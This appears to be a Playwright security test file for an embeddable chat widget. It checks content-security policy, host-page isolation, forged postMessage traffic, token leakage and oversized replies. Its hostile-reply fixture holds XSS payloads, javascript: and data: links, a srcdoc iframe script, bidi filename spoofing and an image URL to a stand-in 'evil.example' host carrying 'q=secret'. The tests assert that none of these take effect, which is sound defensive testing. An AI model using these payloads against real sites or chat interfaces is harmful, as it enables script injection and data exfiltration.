import type { Page } from '@playwright/test';
import { watchErrors } from '../support/faults.ts';
import { expect, test } from '../support/test.ts';
import {
  ask,
  askAndRead,
  callPortico,
  chooseFromMenu,
  composerOf,
  launcherOf,
  openChat,
  recordEvents,
  repliesOf,
} from '../support/widget.ts';

/** Records violations of the page's policy, from the start. */
async function recordViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const refused: string[] = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
      refused.push(`${effectiveDirective} ${blockedURI} ${sample}`),
    );
    Object.assign(globalThis, { refused });
  });
  return () => page.evaluate('refused');
}

test('a strict nonce policy and Trusted Types report no violation', async ({
  page,
  newChat,
  embed,
  portico,
  model,
}) => {
  const chat = await newChat({ behaviour: { launcher: { proactive_message: 'Hi' } } });
  const policy = [
    "default-src 'none'",
    "script-src 'nonce-host' 'strict-dynamic'",
    "style-src 'nonce-host'",
    `connect-src ${portico.url}`,
    "base-uri 'none'",
    "require-trusted-types-for 'script'",
    "trusted-types 'none'",
  ].join('; ');
  const readViolations = await recordViolations(page);
  await page.goto(embed(chat, {}, { 'Content-Security-Policy': policy }));
  await openChat(page);
  model.answer({ text: '| a |\n| --- |\n| 1 |\n\n```ts\nlet a = 1;\n```\n\n[x](https://example.com) **b**' });
  await ask(page, 'Hello');
  await expect(repliesOf(page).getByRole('table')).toBeVisible();
  await page.locator('input[type=file]').setInputFiles({
    name: 'a.txt',
    mimeType: 'text/plain',
    buffer: Buffer.from('Steel is real.'),
  });
  await expect(page.locator('.file.done')).toHaveCount(1);
  await callPortico(page, 'update', {
    locale: 'de',
    theme: 'dark',
    branding: { cover: { type: 'gradient', value: 'linear-gradient(90deg, #102030, #304050)' } },
  });
  await expect(page.getByRole('textbox', { name: 'Nachricht' })).toBeVisible();
  await callPortico(page, 'update', { locale: 'en' });
  await Promise.all([page.waitForEvent('download'), chooseFromMenu(page, 'Save as text')]);
  expect(await readViolations()).toEqual([]);
});

test('the widget changes no pixel of the host page, and no style, node or focus of it', async ({
  page,
  newChat,
  embed,
}) => {
  const chat = await newChat();
  const main = `<style>main > :last-child { color: green } :root > :last-child { outline: 0 } p { margin: 9px }
    input { outline: none; caret-color: transparent }</style>
    <form><input value="mine" autofocus><select><option>One</option></select></form><p>The last paragraph</p>`;
  const look = async (): Promise<{ pixels: Buffer; body: string; style: string; focus: string }> => ({
    pixels: await page.screenshot({ clip: { x: 0, y: 0, width: 700, height: 500 }, caret: 'hide' }),
    body: await page.evaluate(() => document.querySelector('main')?.outerHTML ?? ''),
    style: await page.evaluate(() => JSON.stringify([...document.styleSheets, ...document.adoptedStyleSheets].length)),
    focus: await page.evaluate(() => document.activeElement?.tagName ?? ''),
  });
  await page.goto(embed(chat, { script: null, main }));
  // The browser gives it the focus some frames after the page has loaded.
  await expect(page.locator('input[autofocus]')).toBeFocused();
  const alone = await look();
  await page.goto(embed(chat, { main }));
  await expect(launcherOf(page)).toBeVisible();
  await expect(page.locator('input[autofocus]')).toBeFocused();
  const closed = await look();
  expect({ ...closed, pixels: '' }).toEqual({ ...alone, pixels: '' });
  expect(closed.pixels.equals(alone.pixels)).toBe(true);
  await openChat(page);
  await askAndRead(page, 'Hello');
  const open = await look();
  expect(open.pixels.equals(alone.pixels)).toBe(true);
  expect(open.body).toBe(alone.body);
});

const hostileReplies = {
  markup: '<script>window.hacked=1</script><img src=x onerror="window.hacked=1"><svg onload="window.hacked=1">',
  links: '[a](javascript:window.hacked=1) [b](data:text/html,<script>1</script>) [c](vbscript:x) <javascript:hacked>',
  frames: '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><style>*{display:none}</style><base href=//x>',
  pictures: '![spy](https://evil.example/p.png?q=secret) <img src="https://evil.example/q.png">',
  bidi: 'file \u202Egnp.exe\u202C \u2066hidden\u2069',
  table: `| a |\n| --- |\n${'| x |\n'.repeat(5_000)}`,
  nesting: `${'> '.repeat(2_000)}deep ${'['.repeat(2_000)}`,
};

test('hostile replies have no effect, and the chat continues', async ({ page, newChat, embed, model }) => {
  const chat = await newChat();
  const stray = watchErrors(page);
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) stray.push(request.url());
  });
  page.on('dialog', (dialog) => {
    stray.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto(embed(chat));
  await openChat(page);
  for (const [name, text] of Object.entries(hostileReplies)) {
    model.answer({ text: [text] });
    await ask(page, name);
    await expect(page.getByRole('button', { name: 'Write again' })).toBeVisible();
    await expect(page.locator('.msg.user .bubble').last()).toHaveText(name);
  }
  const made = await page.evaluate(() =>
    [...document.querySelectorAll('div')].flatMap(({ shadowRoot }) =>
      [
        ...(shadowRoot?.querySelectorAll('.msg script, .msg iframe, .msg style, .msg img, .msg base, .msg a') ?? []),
      ].map((element) => `${element.tagName} ${element.getAttribute('href') ?? ''}`),
    ),
  );
  // A picture becomes a link that the visitor would have to follow.
  expect(made).toEqual(['A https://evil.example/p.png?q=secret']);
  expect(await page.evaluate('window.hacked')).toBeUndefined();
  expect(
    await page
      .locator('.msg')
      .evaluateAll((all) => all.some((one) => /[\u202A-\u202E\u2066-\u2069]/.test(one.textContent ?? ''))),
  ).toBe(false);
  expect(await page.locator('.msg tr').count()).toBeLessThan(2_000);
  expect(stray).toEqual([]);
  await askAndRead(page, 'Still here?');
});

test('a reply of a megabyte leaves the page usable', async ({ page, visitChat, model }) => {
  await visitChat();
  model.answer({ text: Array.from({ length: 64 }, () => 'lorem ipsum dolor '.repeat(910)) });
  await ask(page, 'Everything you know');
  await expect(page.getByRole('button', { name: 'Write again' })).toBeVisible();
  await askAndRead(page, 'And now?');
});

test('a thousand forged messages have no effect on the bubble and the framed chat', async ({
  page,
  newChat,
  embed,
  portico,
}) => {
  const chat = await newChat();
  const readEvents = await recordEvents(page);
  const main = `<iframe title="Chat" src="${portico.url}/chat/${chat.slug}" width="400" height="500"></iframe>`;
  await page.goto(embed(chat, { main }));
  await expect(launcherOf(page)).toBeVisible();
  await expect(composerOf(page.frameLocator('iframe'))).toBeVisible();
  await page.evaluate(() => {
    const [frame] = document.getElementsByTagName('iframe');
    const forged = [
      { type: 'send', text: 'forged' },
      { type: 'portico:connect', version: 2 },
      { type: 'portico:connect' },
      { type: 'ready', version: 1 },
      { type: 'open' },
      { type: 'logout' },
      'send',
      null,
      42,
      { type: { toString: 'send' } },
    ];
    for (let round = 0; round < 50; round += 1) {
      for (const message of forged) {
        window.postMessage(message, '*');
        frame?.contentWindow?.postMessage(message, '*');
      }
    }
  });
  // A sibling of the framed chat is not its parent.
  await page.evaluate(async (target) => {
    const sibling = document.createElement('iframe');
    sibling.srcdoc = `<script>
        const { port1, port2 } = new MessageChannel();
        parent.frames[0].postMessage({ type: 'portico:connect', version: 1 }, '${target}', [port2]);
        port1.postMessage({ type: 'send', text: 'forged by a sibling' });
        parent.postMessage('sibling was here', '*');
      </script>`;
    const done = new Promise((resolve) =>
      addEventListener('message', ({ data }) => data === 'sibling was here' && resolve(null)),
    );
    document.body.append(sibling);
    await done;
  }, portico.url);
  await askAndRead(page.frameLocator('iframe').first(), 'Not forged');
  expect((await chat.messages()).map(({ content }) => content)).toEqual(['Not forged', 'You said: Not forged']);
  expect((await readEvents()).map(({ name }) => name)).toEqual(['ready']);
});

test('no token is in an address, an event, the console or a message to the page', async ({ page, newChat, embed }) => {
  const chat = await newChat();
  const seen: string[] = [];
  page.on('request', (request) => seen.push(request.url(), request.headers()['referer'] ?? ''));
  page.on('console', (message) => seen.push(message.text()));
  await page.addInitScript(() => {
    const told: string[] = [];
    addEventListener('message', ({ data }) => told.push(JSON.stringify(data)));
    Object.assign(globalThis, { told });
  });
  const readEvents = await recordEvents(page);
  await page.goto(embed(chat));
  await openChat(page);
  await askAndRead(page, 'Hello');
  await callPortico(page, 'newThread');
  await askAndRead(page, 'Hello again');
  const stored = await page.evaluate(() => JSON.stringify(Object.entries(localStorage)));
  const tokens = stored.match(/pst_[\w-]{20,}/g) ?? [];
  expect(tokens.length).toBeGreaterThan(1);
  const all = [
    ...seen,
    JSON.stringify(await readEvents()),
    await page.evaluate<string>('told.join()'),
    page.url(),
  ].join();
  expect(all).toContain('message-received');
  expect(all).not.toContain('pst_');
  for (const token of tokens) expect(all).not.toContain(token);
});
